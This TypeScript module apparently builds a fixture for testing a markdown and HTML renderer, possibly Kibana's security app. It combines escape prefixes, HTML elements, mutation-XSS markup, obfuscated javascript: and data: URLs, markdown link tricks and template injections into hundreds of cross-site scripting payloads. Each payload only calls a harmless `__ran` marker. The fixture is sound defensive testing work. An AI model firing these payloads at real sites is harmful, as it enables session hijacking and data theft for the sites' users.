/**
 * Texts that run a script wherever a page takes one of them for HTML, for the address of a link, or for code: every way of writing in, multiplied by every
 * way of running. Each calls `__ran` with its own number, so that the one that got through is known.
 */

export interface ScriptPayload {
  readonly number: number;
  readonly text: string;
}

/** What a text may have to close before markup begins. */
const WAYS_OUT = ['', '">', "'>", '</textarea>', '</title></style>', '</script>', '-->', ']]>', '</td></tr></table>', '\u0000', '{{', '`>'];

const ELEMENTS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<IMG SRC=x OnErRoR='${run}'>`,
  (run) => `<img/src=x\tonerror\n=\n${run}>`,
  (run) => `<img src="x:x" onerror="${entities(run)}">`,
  (run) => `<image src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x>`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}></select>`,
  (run) => `<textarea autofocus onfocus=${run}></textarea>`,
  (run) => `<a href=# autofocus onfocus=${run} tabindex=1>x</a>`,
  (run) => `<body onload=${run}>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<iframe srcdoc="&lt;script&gt;parent.${entities(run)}&lt;/script&gt;"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<link rel=stylesheet href="x:x" onerror=${run}>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<form action="javascript:${run}"><input type=submit autofocus></form>`,
  (run) => `<div style="animation-name:x" onanimationstart=${run}></div>`,
  (run) => `<p onpointerover=${run} onclick=${run}>x</p>`,
  (run) => `<template><img src=x onerror=${run}></template><img src=x onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
];

/** Markup that becomes other markup when a page writes what it has read, and elements that run where nobody looks for it. */
const MUTATIONS: readonly ((run: string) => string)[] = [
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) => `<svg><style><img title="</style><img src=x onerror=${run}>">`,
  (run) => `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  (run) => `<svg><animate attributeName=href values="javascript:${run}"/><a><text>x</text></a></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${run}>#x"/></svg>`,
  (run) => `<math href="javascript:${run}">x</math>`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<!-- --!><img src=x onerror=${run}> -->`,
  (run) => `<? ><img src=x onerror=${run}>`,
  (run) => `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  (run) => `<base href="javascript:/x/-${run}//"><a href=#>x</a>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<button popovertarget=p>x</button><p id=p popover onbeforetoggle=${run}>`,
  (run) => `<x tabindex=1 onfocus=${run} autofocus>`,
  (run) => `<x contenteditable onbeforeinput=${run} style="content-visibility:auto" oncontentvisibilityautostatechange=${run}>`,
  (run) => `<video autoplay onloadstart=${run}><source src=x></video>`,
  (run) => `<style>@keyframes x{}</style><x style="animation:x 1s" onanimationend=${run}>`,
  (run) => `<x style="background:url(javascript:${run})" onclick=${run}>`,
  (run) => `<link rel=import href="data:text/html,<script>${run}</script>">`,
  (run) => `<img src=x\u000bonerror=${run}><img src=x\u000conerror=${run}>`,
  (run) => `<img src=x onerror&#61;${run}><img/onerror=${run}/src=x>`,
  (run) =>
    `<form id=__ranNumbers name=body><input name=parentNode><a id=config href="javascript:${run}">x</a></form><img name=getElementById src=x onerror=${run}>`,
  (run) => `\uff1cimg src=x onerror=${run}\uff1e<img src=x onerror=${run}>`,
];

/** Markdown in which a renderer that pastes text into attributes, or trusts an entity, would find a handler or an address. */
const MARKDOWN: readonly ((run: string) => string)[] = [
  (run) => `![x](https://example.com/x "onerror=${run}")`,
  (run) => `![" onerror=${run} x="](x)`,
  (run) => `[x](https://example.com"onclick="${run})`,
  (run) => `[x](<https://example.com" onmouseover="${run}>)`,
  (run) => `https://example.com/"onmouseover="${run}`,
  (run) => `www.example.com/'onmouseover='${run}`,
  (run) => `<https://example.com/"onclick="${run}>`,
  (run) => `[![x](javascript:${run})](javascript:${run})`,
  (run) => `[<img src=x onerror=${run}>](https://example.com)`,
  (run) => `[x][y]\n\n[y]: <javascript:${run}> "x"`,
  (run) => `[javascript:${run}]\n\n[javascript:${run}]: javascript:${run}`,
  (run) => `[^x]\n\n[^x]: <img src=x onerror=${run}> [y](javascript:${run})`,
  (run) => `# <img src=x onerror=${run}> {#x onclick=${run}}`,
  (run) => `[x](/app/x){: onclick="${run}"}`,
  (run) => `\`\`\`" onclick="${run}\nx\n\`\`\``,
  (run) => `| <img src=x onerror=${run}> |\n|---|\n| [x](javascript:${run}) |`,
  (run) => `- [ ] <input onfocus=${run} autofocus>`,
  (run) => `[x](https://kibana/app/security/timelines?timeline=(id:'javascript:${run}'))`,
  (run) => `[x](javascript:${run}//timelines?timeline=(id:'a'))`,
  (run) => `!{tooltip[<img src=x onerror=${run}>](<img src=x onerror=${run}>)}`,
  (run) => `!{osquery{"label":"<img src=x onerror=${run}>","query":"SELECT 1","ecs_mapping":{"<img src=x onerror=${run}>":{"field":"x"}}}}`,
  (run) => `!{investigate{"label":"x","providers":[[{"field":"<img src=x onerror=${run}>","queryType":"exists"}]]}}`,
  (run) => `!{<img src=x onerror=${run}>{}}`,
];

/** Addresses that run when they are followed. */
const ADDRESSES: readonly ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `javascript&#58;${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `javascript:%0a${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `blob:${run}`,
  (run) => `//x@javascript:${run}`,
];

/** More of them, for Markdown's links only. */
const HIDDEN_ADDRESSES: readonly ((run: string) => string)[] = [
  (run) => `jav&Tab;ascript:${run}`,
  (run) => `javascript&NewLine;:${run}`,
  (run) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${run}`,
  (run) => `\u000bjavascript:${run}`,
  (run) => `\u00a0javascript:${run}`,
  (run) => `\u200bjavascript:${run}`,
  (run) => `java\u200bscript:${run}`,
  (run) => `\uff4aavascript:${run}`,
  (run) => `\\javascript:${run}`,
  (run) => `/\\javascript:${run}`,
  (run) => `https:javascript:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `filesystem:https://example.com/temporary/${run}`,
  (run) => `data:image/svg+xml,<svg onload=${run}>`,
  (run) => `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${run}</x:script>`,
  (run) => `mailto:javascript:${run}?subject=<img src=x onerror=${run}>`,
  (run) => `#javascript:${run}`,
  (run) => `?javascript:${run}`,
];

/** Where Markdown, a guide's directive or a page takes an address. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `[x](https://example.com "${address}")`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `!{tooltip[x](${address})}`,
  (address) => `[x](/app/../${address})`,
];

/** What becomes code where a text is pasted into a script, a template or a handler. */
const CODE: readonly ((run: string) => string)[] = [
  (run) => `';${run};//`,
  (run) => `";${run};//`,
  (run) => `\\";${run};//`,
  (run) => `\${${run}}`,
  (run) => `\`+${run}+\``,
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `{{=<% ${run} %>=}}`,
  (run) => `</script><script>${run}</script>`,
  (run) => `\u2028${run}\u2029`,
  (run) => `*/${run}/*`,
  (run) => `\r\n\r\n<script>${run}</script>`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `</script\n><img src=x onerror=${run}>`,
  (run) => `<!--<script>--><img src=x onerror=${run}>`,
  (run) => `[[\${${run}}]]<%= ${run} %>#{${run}}`,
  (run) => `=HYPERLINK("javascript:${run}","x")`,
  (run) => `'),javascript:${run},('`,
  (run) => `(query:'x'),a:!f)&_a=javascript:${run}`,
  (run) => `$&<img src=x onerror=${run}>$1$\``,
  (run) => `\u202e<img src=x onerror=${run}>\u2066`,
];

export function scriptPayloads(): readonly ScriptPayload[] {
  const written: ((run: string) => string)[] = [
    ...WAYS_OUT.flatMap((out) => ELEMENTS.map((element) => (run: string) => out + element(run))),
    ...LINKS.flatMap((link) => ADDRESSES.map((address) => (run: string) => link(address(run)))),
    ...HIDDEN_ADDRESSES.map((address) => (run: string) => `[x](<${address(run)}>) [y](${address(run)})`),
    ...MUTATIONS,
    ...MARKDOWN,
    ...CODE,
  ];
  return written.map((write, number) => ({ number, text: write(`__ran(${number})`) }));
}

function entities(text: string): string {
  return [...text].map((character) => `&#${character.codePointAt(0) ?? 0};`).join('');
}
